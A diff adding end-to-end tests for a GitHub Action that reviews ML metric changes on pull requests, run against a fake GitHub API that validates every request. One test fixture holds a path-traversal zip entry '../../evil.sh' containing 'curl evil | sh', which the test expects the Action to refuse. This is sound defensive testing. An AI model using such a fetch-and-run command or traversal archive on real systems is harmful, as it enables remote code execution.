@@ -1,0 +1,258 @@
+// End-to-end: the built dist/index.js, run as the runner runs it, against a local GitHub API
+// that validates every request against GitHub's OpenAPI description. Payloads are real
+// webhook examples (@octokit/webhooks-examples), adjusted only where a case needs it (a fork).
+import { execFileSync } from 'node:child_process';
+import { existsSync, mkdtempSync, readFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { makeZip, zipDirectory } from '../github/zip-writer.js';
+import { FakeGitHub } from './fake-github.js';
+import { runAction, webhookExample, type ActionRun, type RunOptions } from './runner.js';
+
+const CHURN = 'examples/churn';
+const COLLAPSE = 'test/e2e/fixtures/collapse';
+const MARKER = '<!-- ml-doctor:report -->';
+const KEY_MARKER = '<!-- ml-doctor:key=.github/ml-doctor.yml -->';
+const FORK_HINT = '::notice::ml-doctor: this pull request comes from a fork';
+/** The same run on both sides: nothing moves, so the verdict is pass whatever the analysis does. */
+const STEADY = `${COLLAPSE}/baseline`;
+/** The exit code the gate owes a pull request: 1 exactly when the verdict is fail. */
+const exitFor = (r: ActionRun) => (r.outputs['verdict'] === 'fail' ? 1 : 0);
+
+let dist = '';
+
+beforeAll(() => {
+  // Build the bundle fresh: the test must not depend on the committed dist/ being current.
+  const out = mkdtempSync(join(tmpdir(), 'mld-dist-'));
+  execFileSync(process.execPath, ['scripts/build.mjs', '--outdir', out], { stdio: 'inherit' });
+  dist = join(out, 'index.js');
+});
+
+/** Starts a fake API for `repo`, runs `body`, stops it, and fails on any request that broke the OpenAPI description. */
+async function withGitHub(repo: string, body: (gh: FakeGitHub, run: (o: Omit<RunOptions, 'dist' | 'apiUrl' | 'repo'>) => Promise<ActionRun>) => Promise<void>): Promise<FakeGitHub> {
+  const gh = new FakeGitHub(repo);
+  const apiUrl = await gh.start();
+  try {
+    await body(gh, (o) => runAction({ ...o, dist, apiUrl, repo }));
+  } finally {
+    await gh.stop();
+  }
+  expect(gh.violations).toEqual([]);
+  return gh;
+}
+
+type Payload = Record<string, unknown>;
+const synchronize = () => webhookExample('pull_request', (p) => p['action'] === 'synchronize');
+const pr = (p: Payload) => p['pull_request'] as { number: number; head: { sha: string; ref: string; repo: { full_name: string; owner: { login: string }; fork: boolean } }; base: { ref: string; sha: string } };
+const repoOf = (p: Payload) => (p['repository'] as { full_name: string }).full_name;
+const ours = (gh: FakeGitHub, n: number) => gh.commentsOn(n).filter((c) => c.body.startsWith(MARKER) && c.body.includes(KEY_MARKER));
+const report = (r: ActionRun) => JSON.parse(readFileSync(join(r.workspace, r.outputs['report-path']!), 'utf8')) as { verdict: string; baseline: { source: string; ref: string }; findings: { category: string; evidence: { text: string }[] }[] };
+const infraEvidence = (r: ActionRun) => report(r).findings.filter((f) => f.category === 'infrastructure').flatMap((f) => f.evidence.map((e) => e.text)).join('\n');
+
+/** The base branch's baseline workflow, with a successful push run that uploaded `zip`, plus runs that must be skipped. */
+function seedBaseline(gh: FakeGitHub, branch: string, zip: Buffer, workflow = 'baseline-on-main.yml'): number {
+  gh.addRun({ workflow, event: 'push', branch, sha: '1'.repeat(40), headRepo: gh.repo, conclusion: 'success' }, [{ name: 'ml-artifacts', zip: makeZip([{ name: 'metrics.json', data: '{"test": {"accuracy": 0.1}}' }]) }]);
+  const good = gh.addRun({ workflow, event: 'push', branch, sha: '2'.repeat(40), headRepo: gh.repo, conclusion: 'success' }, [{ name: 'ml-artifacts', zip }]);
+  // Newer, but a failed run, and a fork's PR run whose branch is also called `branch`.
+  gh.addRun({ workflow, event: 'push', branch, sha: '3'.repeat(40), headRepo: gh.repo, conclusion: 'failure' }, [{ name: 'ml-artifacts', zip: makeZip([{ name: 'metrics.json', data: '{}' }]) }]);
+  gh.addRun({ workflow, event: 'pull_request', branch, sha: '4'.repeat(40), headRepo: 'mallory/fork', conclusion: 'success' }, [{ name: 'ml-artifacts', zip: makeZip([{ name: 'metrics.json', data: '{}' }]) }]);
+  return good.id;
+}
+
+describe.concurrent('the built Action against a GitHub API that checks every request', { timeout: 60_000 }, () => {
+  it('pull_request.synchronize: the first run creates one comment, the second edits it, among 250 other comments', async () => {
+    const payload = synchronize();
+    const { number, base } = pr(payload);
+    await withGitHub(repoOf(payload), async (gh, run) => {
+      gh.addComments(number, Array.from({ length: 250 }, (_, i) => `Unrelated review comment ${i}`));
+      const baselineRun = seedBaseline(gh, base.ref, zipDirectory(`${CHURN}/baseline`));
+      const inputs = { 'baseline-workflow': 'baseline-on-main.yml' };
+
+      const first = await run({ event: 'pull_request', payload, artifacts: `${CHURN}/current`, inputs });
+      expect(first.stderr).toBe('');
+      expect(first.code).toBe(exitFor(first));
+      expect(ours(gh, number)).toHaveLength(1);
+      expect(gh.commentsOn(number)).toHaveLength(251);
+      const comment = ours(gh, number)[0]!;
+      expect(first.outputs['comment-url']).toBe(`https://github.com/${gh.repo}/pull/${number}#issuecomment-${comment.id}`);
+      expect(report(first).baseline).toEqual({ source: 'artifact', ref: `ml-artifacts@run ${baselineRun} (${base.ref} 222222222222)` });
+      expect(first.outputs['findings']).toBe(String(report(first).findings.length));
+      expect(first.summary).toContain('## ml-doctor:');
+      // Every page of comments was read: 250 unrelated ones take three pages of 100.
+      expect(gh.requests.filter((r) => r.operationId === 'issues/list-comments').map((r) => new URL(r.path, gh.url).searchParams.get('page') ?? '1')).toEqual(['1', '2', '3', '1', '2', '3']);
+      // The artifact's bytes came from storage, without the job's token.
+      expect(gh.storageAuth).toEqual([undefined]);
+
+      const second = structuredClone(payload);
+      pr(second).head.sha = '9'.repeat(40);
+      const again = await run({ event: 'pull_request', payload: second, artifacts: `${CHURN}/current`, inputs });
+      expect(again.code).toBe(exitFor(again));
+      expect(ours(gh, number)).toEqual([{ id: comment.id, body: expect.stringContaining('commit 9999999') as string }]);
+      expect(gh.count('issues/create-comment')).toBe(1);
+      expect(gh.count('issues/update-comment')).toBe(1);
+      expect(again.outputs['comment-url']).toBe(first.outputs['comment-url']);
+      expect(gh.checkRuns.map((c) => [c.name, c.head_sha])).toEqual([
+        ['ml-doctor', pr(payload).head.sha],
+        ['ml-doctor', '9'.repeat(40)],
+      ]);
+    });
+  });
+
+  it('workflow_dispatch with pr-number and mode deep publishes to that pull request', async () => {
+    const payload = webhookExample('workflow_dispatch', (p) => p['ref'] === 'refs/heads/master');
+    await withGitHub(repoOf(payload), async (gh, run) => {
+      gh.addPull({ number: 7, headSha: '7'.repeat(40), headRef: 'tune-lr', headRepo: gh.repo, baseRef: 'master', baseSha: '8'.repeat(40) });
+      seedBaseline(gh, 'master', zipDirectory(`${CHURN}/baseline`));
+      const r = await run({ event: 'workflow_dispatch', payload, artifacts: `${CHURN}/current`, workflowFile: 'deep-diagnosis.yml', ref: 'refs/heads/master', inputs: { 'pr-number': '7', mode: 'deep', 'baseline-workflow': 'baseline-on-main.yml' } });
+      expect(r.code).toBe(exitFor(r));
+      expect(report(r).baseline.source).toBe('artifact');
+      expect(ours(gh, 7)).toHaveLength(1);
+      expect(ours(gh, 7)[0]!.body).toContain('deep mode');
+      expect(r.outputs['comment-url']).toContain('/pull/7#issuecomment-');
+      expect(gh.checkRuns).toMatchObject([{ head_sha: '7'.repeat(40), output: { title: expect.stringMatching(/\(deep\)$/) as string } }]);
+    });
+  });
+
+  it.each([
+    ['exits 0 when the verdict passes', STEADY, STEADY, 0],
+    ['exits 1 when the verdict fails', `${COLLAPSE}/baseline`, `${COLLAPSE}/current`, 1],
+  ])('a fork PR whose token cannot comment (403) %s, writes the job summary and prints the hint', async (_label, baselineDir, currentDir, code) => {
+    const payload = synchronize();
+    const head = pr(payload).head;
+    head.repo = { ...head.repo, full_name: 'forker/Hello-World', owner: { ...head.repo.owner, login: 'forker' }, fork: true };
+    await withGitHub(repoOf(payload), async (gh, run) => {
+      seedBaseline(gh, pr(payload).base.ref, zipDirectory(baselineDir), 'pr-review.yml');
+      const denied = { status: 403, body: { message: 'Resource not accessible by integration', documentation_url: 'https://docs.github.com/rest' } };
+      gh.fault('issues/create-comment', denied);
+      gh.fault('checks/create', denied);
+      const r = await run({ event: 'pull_request', payload, artifacts: currentDir });
+      expect(r.code).toBe(code);
+      expect(r.outputs['verdict']).toBe(code === 1 ? 'fail' : 'pass');
+      expect(r.stdout.split('\n').filter((l) => l.startsWith(FORK_HINT))).toHaveLength(1);
+      expect(r.stdout).not.toMatch(/::warning::.*(comment|check run)/);
+      expect(r.summary).toContain('## ml-doctor:');
+      expect(r.outputs['comment-url']).toBe('');
+      if (code === 1) expect(r.stdout).toContain('::error::ml-doctor: verdict fail (fail-on: critical)');
+      else expect(r.stdout).not.toContain('::error::');
+    });
+  });
+
+  it('a failing verdict with fail-on critical exits 1, concludes the check as failure and annotates the changed parameter', async () => {
+    const payload = synchronize();
+    const { number, base, head } = pr(payload);
+    await withGitHub(repoOf(payload), async (gh, run) => {
+      seedBaseline(gh, base.ref, zipDirectory(`${COLLAPSE}/baseline`), 'pr-review.yml');
+      gh.files.set(number, [
+        { filename: 'train.py', status: 'modified', patch: '@@ -1 +1 @@\n-LR = 0.001\n+LR = 0.5' },
+        { filename: 'configs/train.yaml', status: 'modified', patch: '@@ -1,2 +1,2 @@\n model: { type: gbm, depth: 6 }\n-optimizer: { lr: 0.001 }\n+optimizer: { lr: 0.5 }' },
+      ]);
+      const r = await run({ event: 'pull_request', payload, artifacts: `${COLLAPSE}/current`, inputs: { 'fail-on': 'critical' } });
+      expect(r.code).toBe(1);
+      expect(r.outputs['verdict']).toBe('fail');
+      expect(r.stdout).toMatch(/^::error::ml-doctor: verdict fail \(fail-on: critical\)\. /m);
+      expect(gh.checkRuns).toHaveLength(1);
+      expect(gh.checkRuns[0]).toMatchObject({ name: 'ml-doctor', head_sha: head.sha, status: 'completed', conclusion: 'failure', output: { title: expect.stringMatching(/^fail: 1 critical/) as string } });
+      expect(gh.checkRuns[0]!.output.annotations).toEqual([expect.objectContaining({ path: 'configs/train.yaml', start_line: 2, end_line: 2 })]);
+    });
+  });
+
+  it('the same failing run with fail-on never exits 0', async () => {
+    const payload = synchronize();
+    await withGitHub(repoOf(payload), async (gh, run) => {
+      seedBaseline(gh, pr(payload).base.ref, zipDirectory(`${COLLAPSE}/baseline`), 'pr-review.yml');
+      const r = await run({ event: 'pull_request', payload, artifacts: `${COLLAPSE}/current`, inputs: { 'fail-on': 'never' } });
+      expect(r.code).toBe(0);
+      expect(r.outputs['verdict']).not.toBe('fail');
+      expect(r.stdout).not.toContain('::error::');
+      expect(gh.checkRuns[0]!.conclusion).not.toBe('failure');
+    });
+  });
+
+  it.each([
+    ['entries with ../ paths', makeZip([{ name: 'metrics.json', data: '{}' }, { name: '../../evil.sh', data: 'curl evil | sh' }]), "entry '../../evil.sh' points outside the extraction directory"],
+    ['a 10 GB declared size', makeZip([{ name: 'eval/predictions.csv', data: 'label,pred\n1,1\n', declaredSize: 10 * 1024 ** 3 }]), "entry 'eval/predictions.csv' declares 10.0 GiB"],
+  ])('refuses a baseline artifact with %s and says so in an infrastructure finding', async (_label, zip, why) => {
+    const payload = synchronize();
+    await withGitHub(repoOf(payload), async (gh, run) => {
+      seedBaseline(gh, pr(payload).base.ref, zip, 'pr-review.yml');
+      const r = await run({ event: 'pull_request', payload, artifacts: `${CHURN}/current` });
+      expect(r.code).toBe(exitFor(r));
+      expect(report(r).baseline.source).toBe('none');
+      expect(infraEvidence(r)).toContain(why);
+      expect(infraEvidence(r)).toContain('(2) git: the workspace is not a git checkout');
+      expect(r.stdout).toContain(`::warning::ml-doctor: baseline refused: artifact 'ml-artifacts'`);
+      expect(existsSync(join(r.workspace, '..', 'runner-temp', 'evil.sh'))).toBe(false);
+      expect(existsSync(join(r.workspace, '..', 'evil.sh'))).toBe(false);
+    });
+  });
+
+  it('workflow_run (fork-safe): finds the fork PR by head branch and commit and publishes comment and check', async () => {
+    const payload = webhookExample('workflow_run', (p) => p['action'] === 'completed' && (p['workflow_run'] as { conclusion: string }).conclusion === 'success');
+    const wr = payload['workflow_run'] as { head_sha: string; workflow_id: number; event: string; head_branch: string; pull_requests: unknown[]; head_repository: { full_name: string; owner: { login: string } } };
+    // As GitHub sends it for a fork: the PR list is empty and the head repository is the fork.
+    wr.event = 'pull_request';
+    wr.pull_requests = [];
+    wr.head_branch = 'improve-model';
+    wr.head_repository = { ...wr.head_repository, full_name: 'forker/octo-repo', owner: { ...wr.head_repository.owner, login: 'forker' } };
+    await withGitHub(repoOf(payload), async (gh, run) => {
+      gh.addPull({ number: 12, headSha: wr.head_sha, headRef: 'improve-model', headRepo: 'forker/octo-repo', baseRef: 'master', baseSha: '8'.repeat(40) });
+      gh.addPull({ number: 13, headSha: '5'.repeat(40), headRef: 'other', headRepo: 'forker/octo-repo', baseRef: 'master', baseSha: '8'.repeat(40) });
+      seedBaseline(gh, 'master', zipDirectory(`${CHURN}/baseline`), String(wr.workflow_id));
+      const r = await run({ event: 'workflow_run', payload, artifacts: `${CHURN}/current`, workflowFile: 'fork-safe-review.yml', ref: 'refs/heads/master' });
+      expect(r.code).toBe(exitFor(r));
+      expect(gh.requests.some((q) => q.operationId === 'pulls/list' && q.path.includes('head=forker%3Aimprove-model'))).toBe(true);
+      expect(ours(gh, 12)).toHaveLength(1);
+      expect(gh.commentsOn(13)).toHaveLength(0);
+      expect(gh.checkRuns.map((c) => c.head_sha)).toEqual([wr.head_sha]);
+      // The baseline came from the triggering workflow's runs on the PR's base branch.
+      expect(report(r).baseline.source).toBe('artifact');
+    });
+  });
+
+  it('push to the default branch writes the summary only, even when the verdict fails', async () => {
+    const payload = webhookExample('push', (p) => p['ref'] === 'refs/heads/master');
+    await withGitHub(repoOf(payload), async (gh, run) => {
+      seedBaseline(gh, 'master', zipDirectory(`${COLLAPSE}/baseline`));
+      const r = await run({ event: 'push', payload, artifacts: `${COLLAPSE}/current`, workflowFile: 'baseline-on-main.yml', ref: 'refs/heads/master' });
+      expect(r.code).toBe(0);
+      expect(r.outputs['verdict']).toBe('fail');
+      expect(r.outputs['comment-url']).toBe('');
+      expect(r.summary).toMatch(/^> push: this run's uploaded artifact becomes the baseline for later pull requests/);
+      expect(gh.requests.filter((q) => q.method !== 'GET')).toEqual([]);
+    });
+  });
+
+  it('waits out 5xx errors and primary and secondary rate limits, and still ends with one comment', async () => {
+    const payload = synchronize();
+    const { number } = pr(payload);
+    await withGitHub(repoOf(payload), async (gh, run) => {
+      gh.fault('issues/list-comments', { status: 502, body: { message: 'Server Error' } });
+      gh.fault('issues/create-comment', {
+        status: 403,
+        // Resets within the next second or two: the client must wait for it, not give up.
+        headers: () => ({ 'x-ratelimit-limit': '5000', 'x-ratelimit-remaining': '0', 'x-ratelimit-reset': String(Math.floor(Date.now() / 1000) + 1) }),
+        body: { message: 'API rate limit exceeded for installation ID 1.', documentation_url: 'https://docs.github.com/rest/overview/rate-limits-for-the-rest-api' },
+      });
+      gh.fault('checks/create', { status: 403, headers: () => ({ 'retry-after': '1' }), body: { message: 'You have exceeded a secondary rate limit. Please wait a few minutes before you try again.' } });
+      const r = await run({ event: 'pull_request', payload, artifacts: `${CHURN}/current`, inputs: { 'baseline-path': `artifacts` } });
+      expect(r.code).toBe(0);
+      expect(r.stdout).toMatch(/GitHub primary rate limit on POST .* waiting [1-3] s/);
+      expect(r.stdout).toMatch(/GitHub secondary rate limit on POST .* waiting 1 s/);
+      expect(ours(gh, number)).toHaveLength(1);
+      expect(gh.count('issues/create-comment')).toBe(2);
+      expect(gh.checkRuns).toHaveLength(1);
+      expect(r.stdout).not.toContain('::warning::');
+    });
+  });
+
+  it('rejects an invalid input with one line naming it, before calling the API', async () => {
+    const payload = synchronize();
+    await withGitHub(repoOf(payload), async (gh, run) => {
+      const r = await run({ event: 'pull_request', payload, artifacts: `${CHURN}/current`, inputs: { 'fail-on': 'x' } });
+      expect(r.code).toBe(1);
+      expect(r.stdout.trim().split('\n')).toEqual(["::error::Invalid input 'fail-on': 'x'. Expected one of: critical, major, any, never."]);
+      expect(gh.requests).toEqual([]);
+    });
+  });
+});
